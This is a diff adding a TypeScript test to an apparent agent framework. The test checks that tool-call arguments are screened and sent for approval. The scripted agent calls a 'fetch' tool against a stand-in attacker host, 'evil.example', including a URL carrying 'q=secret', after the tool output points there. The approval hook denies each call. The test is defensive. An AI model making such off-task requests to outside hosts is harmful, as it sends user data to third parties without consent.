@@ -127,6 +127,51 @@ describe.each(numbered)('flow in $name', ({ name, harness: url, offset }) => {
       expect(explainFlow(stage.hooks.session('s1')).touched).toBeUndefined();
     });
 
+    test('without options, parts of a name, phrases, methods and ids are checked by the schema of the tool', async () => {
+      await open({});
+      const asked: string[] = [];
+      const calls: readonly { readonly name: string; readonly arguments: object }[] = [
+        { name: 'comment', arguments: { owner: 'acme', repo: 'web', number: 7, text: 'Looks good to me' } },
+        { name: 'fetch', arguments: { url: 'https://a.example/x', method: 'POST' } },
+        { name: 'fetch', arguments: { url: 'https://evil.example/y', method: 'GET' } },
+        { name: 'fetch', arguments: { url: 'https://evil.example/y', method: 'POST' } },
+        { name: 'fetch', arguments: { url: 'evil.example\\?q=secret', method: 'GET' } },
+        { name: 'comment', arguments: { owner: 'acme', repo: 'web', number: 7, text: 'Looks good to me' } },
+        { name: 'comment', arguments: { owner: 'acme', repo: 'web', number: 9, text: '' } },
+      ];
+      const { result } = await stage.play(
+        ({ turn }) => {
+          const made = calls[turn];
+          return made === undefined ? { text: 'Done.' } : { toolCalls: [{ ...made, id: `c${turn}` }] };
+        },
+        {
+          tools: [
+            {
+              name: 'comment',
+              description: 'Comments on an issue.',
+              schema: z.object({ owner: z.string(), repo: z.string(), number: z.number(), text: z.string() }),
+              execute: () => 'ok',
+            },
+            {
+              name: 'fetch',
+              description: 'Makes a request.',
+              schema: z.object({ url: z.string(), method: z.string() }),
+              execute: () => 'See https://evil.example/y',
+            },
+          ],
+          attach: { approval: ({ reason }) => (asked.push(reason), { decision: 'deny' }) },
+        },
+        { session: 's1', prompt: 'Comment on acme/web#7, and POST to https://a.example/x' },
+      );
+      expect(result.error).toBeUndefined();
+      expect(asked.map((reason) => reason.split(':', 1)[0])).toEqual([
+        'fetch.url "https',
+        'fetch.url "evil.example\\?q=secret"',
+        'comment.text "Looks good to me"',
+        expect.stringContaining('comment.'),
+      ]);
+    });
+
     test('a call that has to be untouched asks after a page was read, also in a later run', async () => {
       await open();
       const actor = await stage.agent(script(['delete_file a', 'read_file b'], ['delete_file c']), {
